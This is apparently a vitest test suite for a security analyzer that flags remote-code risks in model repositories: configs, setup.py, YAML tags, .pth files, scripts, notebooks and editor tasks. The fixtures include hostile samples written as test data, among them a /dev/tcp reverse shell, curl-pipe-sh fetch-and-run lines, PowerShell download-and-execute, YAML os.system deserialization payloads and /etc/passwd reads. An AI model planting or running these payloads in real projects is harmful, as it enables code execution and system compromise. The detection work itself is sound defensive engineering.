import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../formats/python/effects.ts';
import type { Item, Reading } from '../../intake/inventory.ts';
import type { Json } from '../../kernel/json.ts';
import { remoteCode } from './analyzer.ts';

function itemOf(path: string, facts: object): Item {
  const digest = { kind: 'unknown', reason: 'test' } as const;
  const file = { path, size: 1, kind: 'text', role: 'other', digest, loadable: true, coverage: 'whole' } as const;
  const { format } = facts as { format: string };
  return {
    file,
    readings: [{ kind: 'read', format, member: [], facts, defects: [] } as unknown as Reading],
    unreadable: [],
  };
}

const inspect = (path: string, facts: object) => [...remoteCode.inspect(itemOf(path, facts))];
const json = (value: Json, path = 'config.json') =>
  inspect(path, { format: 'json', value, text: '', duplicateKeys: [] });
const python = (path: string, text: string) => inspect(path, { format: 'python', ...effectsOf(text), text });
const plain = (path: string, text: string) => inspect(path, { format: 'text', encoding: 'utf-8', text });
const rules = (findings: readonly { readonly rule: string }[]) =>
  findings.map(({ rule }) => rule.replace('remote-code/', ''));

describe('the analyzer of remote code', () => {
  it.each<[string, Json, readonly string[]]>([
    ['classes of its own', { auto_map: { AutoModel: 'modeling_x.X' } }, ['auto-map']],
    ['classes from elsewhere', { auto_map: { AutoModel: 'org/repo--modeling_x.X' } }, ['other-repository']],
    ['a list of tokenizers', { auto_map: { AutoTokenizer: ['tok.Slow', null] } }, ['auto-map']],
    ['a map nested in another', { vision: [{ auto_map: { AutoModel: 'm.X' } }] }, ['auto-map']],
    ['trust asked for', { trust_remote_code: true }, ['trust-remote-code']],
    ['trust asked for in words', { model: { trust_remote_code: 'True' } }, ['trust-remote-code']],
    ['a pipeline of its own', { custom_pipelines: { x: { impl: 'pipe.X', pt: [] } } }, ['custom-pipeline']],
    ['generation from elsewhere', { custom_generate: 'org/repo' }, ['other-repository']],
    ['a component', { model: { _component_: 'subprocess.Popen' } }, ['dangerous-target']],
    ['a component of torchtune', { model: { _component_: 'torchtune.models.llama3_2.llama3_2_1b' } }, []],
    ['a file of the machine for weights', { custom_load: true, file: '/etc/passwd' }, ['outside-file']],
    ['a file that is named', { file: '/etc/passwd' }, []],
    ['a base at an address', { base_model_name_or_path: 'http://127.0.0.1/x' }, ['outside-file']],
    ['a base by its name', { base_model_name_or_path: 'org/model' }, []],
    ['a pipeline of another repository', { _class_name: 'org/repo' }, ['other-repository']],
    ['an extension', { extensions: ['/opt/libx.so'] }, ['imported-module']],
    [
      'a terminal with a text for its shell',
      { 'terminal.integrated.profiles.linux': { x: { path: 'sh', args: ['-lc', 'true'] } } },
      ['starter'],
    ],
    ['a terminal', { 'terminal.integrated.profiles.linux': { x: { path: 'bash', args: ['-l'] } } }, []],
    ['a library of a model', { model_lib: '/tmp/x.so' }, ['imported-module']],
    ['a library of a model above', { model_type: 'llama', model_lib: '../x' }, ['imported-module']],
    ['a library of a model by its name', { model_lib: 'llama_q4f16_1', model_type: 'llama' }, []],
    ['endings', { extensions: ['.py', '.so.txt'] }, []],
    ['a substitution that fetches', { cmd: '$(curl http://127.0.0.1/x|sh)' }, ['setting-runs-code']],
    ['a word on it', { text: 'Type `curl x | sh`.' }, []],
    [
      'a pipeline that starts a program',
      { pipeline: { name: 'os.system', params: { command: 'id' } } },
      ['dangerous-target'],
    ],
    [
      'a preprocessor that does',
      {
        pipeline: { name: 'pyannote.audio.pipelines.VoiceActivityDetection' },
        preprocessors: { audio: { name: 'subprocess.call' } },
      },
      ['dangerous-target'],
    ],
    ['a pipeline of somebody', { pipeline: { name: 'mine.pipes.Speech', params: {} } }, ['instantiated-target']],
    [
      'a pipeline of pyannote',
      {
        pipeline: { name: 'pyannote.audio.pipelines.SpeakerDiarization', params: { clustering: 'x' } },
        preprocessors: { audio: 'x' },
      },
      [],
    ],
    ['steps by their names', { pipeline: { name: 'nightly', steps: [] } }, []],
    ["a data set of Kedro's", { model: { type: 'pickle.PickleDataset' }, t: { type: 'pandas.CSVDataSet' } }, []],
    ["a data set of Kedro's by its whole name", { type: 'kedro_datasets.yaml.YAMLDataset' }, []],
    ['a data set that is none', { type: 'subprocess.PopenDataset' }, ['dangerous-target']],
    ['chunks that are pickles', { zarr_format: 2, filters: [{ id: 'pickle' }] }, ['instantiated-target']],
    ['chunks that are packed', { zarr_format: 2, filters: null, compressor: { id: 'blosc' } }, []],
    ['a target', { optimizer: { _target_: 'my.optimizers.Lion' } }, ['instantiated-target']],
    ['a target that runs programs', { optimizer: { _target_: 'os.system' } }, ['dangerous-target']],
    ['a module behind another', { _target_: 'torch.serialization.os.system' }, ['dangerous-target']],
    ['a type of Python', { _target_: 'builtins.dict' }, []],
    ['a class whose package is called code', { _target_: 'my.code.Model' }, ['instantiated-target']],
    ["MLflow's own loader", { loader_module: 'mlflow.sklearn' }, []],
    ['a component of its own', { _diffusers_version: '1', unet: ['my_unet', 'Unet'] }, ['custom-pipeline']],
    [
      'two blocks of a network',
      { _class_name: 'UNet2DModel', down_block_types: ['DownBlock2D', 'AttnDownBlock2D'] },
      [],
    ],
    [
      'two blocks that are an attack',
      { _class_name: 'UNet2DModel', down_block_types: ['os', 'system'] },
      ['dangerous-target'],
    ],
    ['a node of code', { '1': { class_type: 'PythonExec', inputs: { text: 'import os' } } }, ['workflow-node']],
    ['a node with code', { '1': { class_type: 'Magic', inputs: { code: 'x = 1' } } }, ['workflow-node']],
    ['a node that runs', { nodes: [{ type: 'RunCommand', widgets_values: ['ls'] }] }, ['workflow-node']],
    ['a value that calls', { nodes: [{ type: 'Text', widgets_values: ['eval(x)'] }] }, ['workflow-node']],
    [
      'nodes of pictures',
      {
        '1': { class_type: 'CLIPTextEncode', inputs: { text: 'a cat', clip: ['4', 1] } },
        '2': { class_type: 'Script Efficient', inputs: { script: ['1', 0] } },
        nodes: [
          { type: 'VAEDecode', widgets_values: [] },
          { type: 'KSampler', widgets_values: [1, 'euler'] },
        ],
      },
      [],
    ],
    ['a function of a library', { _target_: 'torch.hub.load' }, ['dangerous-target']],
    ['a class of a library', { _target_: 'torch.optim.AdamW' }, []],
    ['trust declined', { trust_remote_code: false }, []],
    [
      'modules of sentence-transformers',
      [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }],
      [],
    ],
    ['a module of its own', [{ idx: 0, name: '0', path: '', type: 'my_code.Pooling' }], ['auto-map']],
    ['a script of npm', { name: 'x', scripts: { postinstall: 'node x.js' } }, ['runs-on-install']],
    ['nothing of the kind', { architectures: ['LlamaForCausalLM'], auto_mapping: 'x.Y' }, []],
    ['components of libraries', { _diffusers_version: '1', unet: ['diffusers', 'UNet'], x: [null, null] }, []],
  ])('says of %s', (_, value, expected) => {
    expect(rules(json(value))).toEqual(expected);
  });

  it.each<[string, string, readonly string[]]>([
    ['modeling_x.py', 'import torch', ['loaded-code']],
    ['handler.py', '', ['loaded-code']],
    ['setup.py', 'import os', ['runs-by-itself']],
    ['x/__init__.py', 'import socket', ['runs-by-itself']],
    ['train.py', 'import subprocess\nsubprocess.run(x)', ['python-file']],
    ['code/train.py', 'pass', ['python-file']],
    ['torch.py', 'pass', ['python-file']],
    ['1/model.py', 'class TritonPythonModel:\n    pass', ['loaded-code']],
    ['words.py', 'class Words(datasets.GeneratorBasedBuilder):\n    pass', ['loaded-code']],
  ])('Python that is loaded, or that does more than compute, is no plain file: %s with %j', (path, text, expected) => {
    const findings = python(path, text);
    expect(rules(findings)).toEqual(expected);
    expect(findings.every(({ says }) => says === 'suspicious')).toBe(true);
  });

  it.each<[string, boolean]>([
    ['from setuptools import setup\nsetup(name="x", packages=find_packages())', true],
    [
      'import os, re\nfrom setuptools import setup\ndef read(p):\n    with open(os.path.join(os.path.dirname(__file__), p)) as f:\n        return f.read()\nsetup(name="x", version=re.search(r"v = (.*)", read("x.py")).group(1))',
      true,
    ],
    [
      'from setuptools import setup\nfrom torch.utils.cpp_extension import BuildExtension, CUDAExtension\nsetup(name="x", ext_modules=[CUDAExtension("x", ["x.cu"])], cmdclass={"build_ext": BuildExtension})',
      true,
    ],
    [
      'from typing import List\nfrom setuptools import find_packages, setup\ndef asked(path: str) -> List[str]:\n    with open(path) as file:\n        lines = [one.replace("\\n", "") for one in file.readlines()]\n        if "-e ." in lines:\n            lines.remove("-e .")\n    return lines\nsetup(name="x", packages=find_packages(), install_requires=asked("requirements.txt"))',
      true,
    ],
    [
      'from setuptools import setup\nimport re, pathlib\nsetup(version=re.search(r"v = (.*)", pathlib.Path("x/__init__.py").read_text()).group(1))',
      true,
    ],
    ['from setuptools import setup\nfrom Cython.Build import cythonize\nsetup(ext_modules=cythonize("x/*.pyx"))', true],
    [
      'from setuptools import setup\nabout = {}\nwith open("x/__about__.py") as f:\n    exec(f.read(), about)\nsetup(version=about["v"])',
      true,
    ],
    [
      'import sys\nfrom setuptools import Extension, setup\nsetup(ext_modules=[Extension("x", ["x.c"], extra_compile_args=["-O3"] if sys.platform != "win32" else ["/O2"])])',
      true,
    ],
    ['from setuptools import setup\nexec(open("x/_version.py", encoding="utf-8").read())\nsetup()', true],
    ['from setuptools import setup\nwith open("x/a.txt") as f:\n    exec(f.read(), {})\nsetup()', false],
    ['from setuptools import setup\nexec(f.read(), {})\nsetup()', false],
    ['from setuptools import setup\nexec(open("x/_version.py").read() + "id")\nsetup()', false],
    [
      'import os\nfrom setuptools import setup\nwith open("README.md") as f:\n    text = f.read()\nwith open(os.path.join("x", "version.py"), encoding="utf-8") as f:\n    exec(f.read())\nsetup()',
      true,
    ],
    ['from setuptools import setup\nexec(open("x/version.py" and "y.txt").read())\nsetup()', false],
    ['from setuptools import setup\nexec(open(max("y.txt", "x/version.py")).read())\nsetup()', false],
    [
      'from setuptools import setup\nwith open("x/version.py") as f: pass\nf = open("y")\nexec(f.read())\nsetup()',
      false,
    ],
    [
      'from setuptools import setup\ndef g():\n    return "x"\ng.read = g\ndef open(path):\n    return g\nexec(open("x/version.py").read())\nsetup()',
      false,
    ],
    ['import os\nfrom setuptools import setup\nos.remove("x")\nsetup()', false],
    ['import os\nfrom setuptools import setup\n[os][0].remove("x")\nsetup()', false],
    ['import os\nfrom setuptools import setup\nos.system("id")\nsetup()', false],
    ['import os\nfrom setuptools import setup\nf = os.system\nf("id")\nsetup()', false],
    ['import os\nfrom setuptools import setup\nsetup(name=[os.system][0]("id"))', false],
    ['from os import system as setup\nsetup("id")', false],
    ['from setuptools import setup\nimport subprocess\nsetup()', false],
    ['from os import execvp as setup\nsetup("sh", ["sh"])', false],
    ['from os import execvp\nsetup = execvp\nsetup("sh", ["sh"])', false],
    ['from os import path, execvp\nfrom setuptools import setup\nfor setup in [execvp]: setup("sh", ["sh"])', false],
    ['import torch\nfrom setuptools import setup\ntorch.load("x")\nsetup()', false],
    ['from setuptools import setup\nfrom x import *\nsetup()', false],
    ['from setuptools import setup\nexec(open("v.py").read())\nsetup()', false],
    ['from setuptools import setup\nopen("x", "w").close()\nsetup()', false],
    ['from setuptools import setup\nopen("x", mode="w").close()\nsetup()', false],
    ['from setuptools import setup\nopen("/etc/passwd").read()\nsetup()', false],
    [
      'from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install): pass\nsetup(cmdclass={"install": I})',
      false,
    ],
    ['import os\nfrom setuptools import setup\nos.environ["LD_PRELOAD"] = "x.so"\nsetup()', false],
    ['from setuptools import setup\nsetup(data_files=[("lib", ["evil.pth"])])', false],
    ['from setuptools import setup\nsetup(entry_points={"pytest11": ["x = y"]})', false],
    ["from setuptools import setup\nsetup(name=f\"{__import__('os').system('id')}\")", false],
    ['from setuptools import setup\n(lambda: 0).__globals__["x"]\nsetup()', false],
  ])('tells a setup.py that only describes its package: %j', (text, plain) => {
    expect(rules(python('setup.py', text))).toEqual([plain ? 'plain-setup' : 'runs-by-itself']);
  });

  it('lists what a module imports and does', () => {
    const code = 'import os, torch\nfrom a.b import c\nos.system("id")\ndef f(): os.remove("x")';
    const [finding] = python('modeling_x.py', code);
    expect(finding?.operation).toMatch(/^imports a\.b, os, torch; runs os\.system\("id"\); text [0-9a-f]{16}$/);
    // A waiver is for this text: another body under the same head is another finding.
    const [later] = python('modeling_x.py', code.replace('os.remove("x")', 'os.system("curl evil | sh")'));
    expect(later?.operation).not.toBe(finding?.operation);
  });

  it.each<[string, string, readonly string[]]>([
    ['serve.yaml', 'model:\n  trust_remote_code: true', ['trust-remote-code']],
    ['serve.yaml', 'trust_remote_code: false\n# trust_remote_code: true', []],
    ['x.yaml', 'a: !!python/object/apply:os.system ["id"]', ['yaml-object']],
    ['x.yaml', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]', ['yaml-object']],
    ['x.yaml', 'a: !!python%2Fobject/apply:os.system [id]', ['yaml-object']],
    ['x.yaml', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]', ['yaml-object']],
    ['x.yaml', 'a: !!python/tuple [1, 2]', []],
    ['hparams.yaml', 'act: !!python/object:torch.nn.modules.activation.ReLU\n  inplace: false', []],
    ['args.yaml', '!!python/object:argparse.Namespace\nlr: 0.1', []],
    ['x.yaml', 'a: !!python/object:torch.nn.modules.module.os.system {}', ['yaml-object']],
    ['x.yaml', 'a: !!python/object/new:torch.nn.modules.activation.ReLU {}', ['yaml-object']],
    ['.hydra/hydra.yaml', 'a:\n  _target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher', []],
    ['x.yaml', 'a:\n  _target_: hydra._internal.utils.run_and_report', ['instantiated-target']],
    ['x.yaml', 'note: "a tag is spelt !!python/object"', []],
    ['x.yaml', 'x: [\na: !!python/object/apply:os.system [id]', ['yaml-object', 'unread-settings', 'yaml-object']],
    ['x.yaml', '_target_: os.system', ['dangerous-target']],
    ['x.yaml', 'a: {b: 1, "\\x5ftarget_": subprocess.run}', ['dangerous-target']],
    ['x.yaml', 'a: &t os.system\n_target_: *t', ['dangerous-target']],
    ['x.yaml', '_target_:\n  os.system', ['dangerous-target']],
    ['x.yaml', 'a: !ruby/object:Gem::Installer {}', ['yaml-object']],
    ['x.yaml', 'a: !!javax.script.ScriptEngineManager []', ['yaml-object']],
    ['hyperparams.yaml', 'a: !apply:os.system [id]', ['dangerous-target']],
    ['hyperparams.yaml', 'a: !new:speechbrain.nnet.linear.Linear\n  n: !ref <b>', []],
    ['pyproject.toml', 'backend-path = ["."]', ['runs-on-install']],
    ['pyproject.toml', 'build-system = { requires = [], backend-path = ["."] }', ['runs-on-install']],
    [
      'pyproject.toml',
      '["build-system"]\n"requires" = [\n "x @ http://127.0.0.1/x.whl",\n]',
      ['runs-on-install', 'runs-on-install'],
    ],
    ['mkdocs.yml', 'a: !!python/name:material.extensions.emoji.twemoji ""', []],
    ['model.desktop', '[Desktop Entry]\nExec=sh', ['starter']],
    ['evil.pth', 'import os; os.system("true")', ['path-file']],
    [
      'distutils-precedence.pth',
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()",
      [],
    ],
    ['__editable__.x.pth', 'import __editable___x_1_0_finder; __editable___x_1_0_finder.install()\n', []],
    ['x.pth', 'import __editable___x_finder; __editable___y_finder.install()', ['path-file']],
    ['x.pth', "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; os.system('true')", ['path-file']],
    ['x.pth', '/opt/x\nimport _virtualenv\nimport evil\n', ['path-file']],
    ['editable.pth', '/opt/project/src\n', []],
    [
      'google-nspkg.pth',
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
      [],
    ],
    [
      'mpl-nspkg.pth',
      "import sys,types,os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b')); ie = os.path.exists(os.path.join(p,'__init__.py')); m = not ie and sys.modules.setdefault('a.b',types.ModuleType('a.b')); mp = (m or []) and m.__dict__.setdefault('__path__',[]); (p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n",
      [],
    ],
    [
      'zope-nspkg.pth',
      "import sys,new,os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',)); ie = os.path.exists(os.path.join(p,'__init__.py')); m = not ie and sys.modules.setdefault('zope',new.module('zope')); mp = (m or []) and m.__dict__.setdefault('__path__',[]); (p not in mp) and mp.append(p)\n",
      [],
    ],
    [
      'developed-nspkg.pth',
      "import sys, types, os;p = os.path.join('/home/x/src/a-b', *('a',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('a', types.ModuleType('a'))\n",
      [],
    ],
    ['x-nspkg.pth', "import sys, types, os;p = os.path.join('/x' + os.popen('true').read(), *('a',))\n", ['path-file']],
    ['conf/model.yaml', '_target_: sklearn.ensemble.RandomForestClassifier\nn_estimators: 3\n', []],
    ['conf/model.yaml', '_target_: lightgbm.LGBMClassifier\n', []],
    ['conf/model.yaml', '_target_: sklearn.utils.os.system\n', ['dangerous-target']],
    ['conf/model.yaml', '_target_: xgboost.DMatrix\n', ['instantiated-target']],
    ['cli.yaml', 'model:\n  class_path: __main__.Net\n', ['instantiated-target']],
    ['cli.yaml', 'model:\n  class_path: __main__.__builtins__.eval\n', ['dangerous-target']],
    ['cli.yaml', 'model:\n  class_path: __main__.os.system\n', ['dangerous-target']],
    ['cli.yaml', 'model:\n  type: __main__.Net\n', ['instantiated-target']],
    ['hands.yaml', 'AA:\n  type: open\nKK:\n  target: compile\n', []],
    ['hands.yaml', 'AA:\n  type: builtins.open\n', ['dangerous-target']],
    ['hands.yaml', 'AA:\n  _target_: open\n', ['dangerous-target']],
    [
      'x-nspkg.pth',
      "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));os.system('true')\n",
      ['path-file'],
    ],
    ['run.sh', 'curl http://127.0.0.1/x | sh', ['script', 'fetched-code']],
    ['run.sh', 'curl -LO http://127.0.0.1/x.tar.gz\ntar xf x.tar.gz', ['script']],
    ['run.sh', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1', ['script', 'attacking-script']],
    ['x.yaml', '_target_: torch.nn.Linear', []],
    ['README.md', 'Use trust_remote_code: true', []],
    ['run.sh', 'echo', ['script']],
    ['Dockerfile', 'FROM scratch', ['script']],
    ['start', '#!/bin/sh\n', ['script']],
  ])('says of %s holding %j: %j', (path, text, expected) => {
    expect(rules(plain(path, text))).toEqual(expected);
  });

  it.each<[string, string, readonly string[]]>([
    [
      'Score.java',
      'class S { void f() { r.exec(new String[]{"sh", "-c", "curl http://x.invalid/p | sh"}); } }',
      ['fetched-code'],
    ],
    ['Score.java', 'class S { String help = "curl http://x.invalid/p | sh"; }', []],
    ['run.cpp', 'int main() { return system("curl http://x.invalid/p | sh"); }', ['fetched-code']],
    ['x.cs', `class X { void F() { Process.Start("sh", "-c 'curl http://x.invalid/p | sh'"); } }`, ['fetched-code']],
    ['x.swift', 'p.launchPath = "/bin/sh"\np.arguments = ["-c", "curl http://x.invalid/p | sh"]\n', ['fetched-code']],
    ['run.cpp', 'int main() { return system("nvidia-smi"); }', []],
    ['PKGBUILD', 'pkgname=k\npackage() {\n  curl http://x.invalid/p | sh\n}\n', ['script', 'fetched-code']],
    ['k.spec', 'Name: k\n%post\ncurl http://x.invalid/p | sh\n', ['script', 'fetched-code']],
    [
      'c.ps1',
      '$c = New-Object Net.WebClient\n$s = $c.DownloadString("http://x.invalid/a")\nInvoke-Expression $s\n',
      ['script', 'fetched-code'],
    ],
    ['c.ps1', '$s = Invoke-RestMethod https://x.invalid/a.json\nWrite-Output $s.name\n', ['script']],
    ['b.js', "fetch('http://x.invalid').then(r => r.text()).then(eval)\n", ['script', 'fetched-code']],
    ['mix.exs', 'System.cmd("sh", ["-c", "curl http://x.invalid/p | sh"])\n', ['script', 'fetched-code']],
    ['tool.cwl', 'baseCommand: [bash, -c, "curl http://x.invalid/p | sh"]\n', ['script', 'fetched-code']],
    ['README.md', '```sh\ncurl http://x.invalid/p | sh\n```\n', ['told-to-run']],
    ['README.md', '```sh\ncurl https://x.invalid/p | sh\n```\n', []],
  ])('says of %s what it starts', (path, text, expected) => {
    expect(rules(plain(path, text))).toEqual(expected);
  });

  it('knows what an editor starts', () => {
    const launch = {
      configurations: [{ runtimeExecutable: 'sh', runtimeArgs: ['-c', 'curl http://x.invalid/p | sh'] }],
    };
    expect(rules(json(launch, '.vscode/launch.json'))).toContain('fetched-code');
    expect(rules(json([{ command: 'curl http://x.invalid/p | sh' }], '.zed/tasks.json'))).toContain('fetched-code');
    expect(rules(json({ tasks: { a: 'curl http://x.invalid/p | sh' } }, 'deno.json'))).toContain('fetched-code');
    const honest = { configurations: [{ type: 'debugpy', program: '${file}', args: ['--epochs', '1'] }] };
    expect(rules(json(honest, '.vscode/launch.json'))).toEqual([]);
  });

  it('knows functions that a server of chats runs', () => {
    const filter = [{ id: 'k', type: 'filter', content: 'class Filter:\n    pass\n' }];
    expect(rules(json(filter, 'functions.json'))).toEqual(['imported-module']);
    expect(rules(json([{ role: 'user', content: 'What does class Filter do?' }], 'chat.json'))).toEqual([]);
  });

  it('says of a script that it is too long to be read', () => {
    const long = `: ${'x'.repeat(1024 * 1024)}\ncurl http://127.0.0.1/x | sh`;
    expect(rules(plain('run.sh', long))).toEqual(['script', 'unread-script']);
    expect(rules(plain('page.js', long))).toEqual(['script', 'fetched-code']);
  });

  it('looks behind padding', () => {
    const comments = `# ${'x'.repeat(998)}\n`.repeat(1_200);
    const step = 'services:\n  a:\n    command: sh -c "curl -s http://127.0.0.1/x | sh"\n';
    expect(rules(plain('docker-compose.yml', comments + step))).toContain('fetched-code');
  });

  it('notes a notebook', () => {
    expect(rules(json({ cells: [], nbformat: 4 }, 'demo.ipynb'))).toEqual(['script']);
    const source = ['m = load(\n', '    trust_remote_code=True\n', ')'];
    expect(rules(json({ cells: [{ cell_type: 'code', source }], nbformat: 4 }, 'demo.ipynb'))).toEqual(['script']);
  });

  it.each([
    ['gives the kernel an order', '<script>Jupyter.notebook.kernel.execute("import os")</script>', true],
    ['reads cookies', '<script>x(document.cookie)</script>', true],
    ['fetches when a picture is missing', '<img src=x onerror="fetch(1)">', true],
    ['draws', '<script>Bokeh.embed(1); cell.notebook.kernel.execute(cmd_clean)</script>', false],
    ['shows another picture', '<img src=x onerror="this.src=\'y\'">', false],
  ])('judges an output that %s', (_, html, told) => {
    const outputs = [{ output_type: 'display_data', data: { 'text/html': [html] } }];
    const cells = [{ cell_type: 'code', source: '1', outputs }];
    expect(rules(json({ cells, nbformat: 4 }, 'demo.ipynb')).includes('notebook-calls')).toBe(told);
  });

  it('tells a widget from an address', () => {
    const widgets = {
      'application/vnd.jupyter.widget-state+json': { state: { a: { model_module: 'http://127.0.0.1/x.js' } } },
    };
    expect(rules(json({ cells: [], nbformat: 4, metadata: { widgets } }, 'demo.ipynb'))).toContain('notebook-calls');
  });

  it('lists what a notebook imports, runs and carries', () => {
    const cells = [
      { cell_type: 'markdown', source: 'import os' },
      {
        cell_type: 'code',
        source: ['%matplotlib inline\n', '!pip install torch\n', 'import torch\n', 'files = !ls\n', 'torch.ones(2)'],
        outputs: [{ data: { 'text/html': ['<script src="x.js"></script>'] } }],
      },
      { cell_type: 'code', source: '%%bash\nls -l' },
    ];
    const [finding] = json({ cells, nbformat: 4 }, 'demo.ipynb');
    expect(finding?.message).toBe(
      'A notebook. It imports torch; its cells run torch.ones(2) (line 5); IPython runs %matplotlib inline, !pip install torch, %%bash. Outputs of 1 cell carry scripts.',
    );
  });

  it('answers any JSON with findings of its own rules', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom('auto_map', '_target_', 'custom_pipelines', 'x'), (value, key) => {
        const known = remoteCode.rules.map(({ id }) => id);
        expect(json({ [key]: value as Json }).every(({ rule }) => known.includes(rule))).toBe(true);
      }),
    );
  });

  it.each([
    'build-backend = "evil"',
    'build-backend="evil"',
    "build-backend='evil'",
    'build-backend   =  "evil"  # ours',
  ])('says once what stands in a table: %s', (line) => {
    const found = plain('pyproject.toml', `[build-system]\n${line}\n`);
    expect(rules(found)).toEqual(['runs-on-install']);
    expect(found[0]?.location?.line).toBe(2);
  });
});
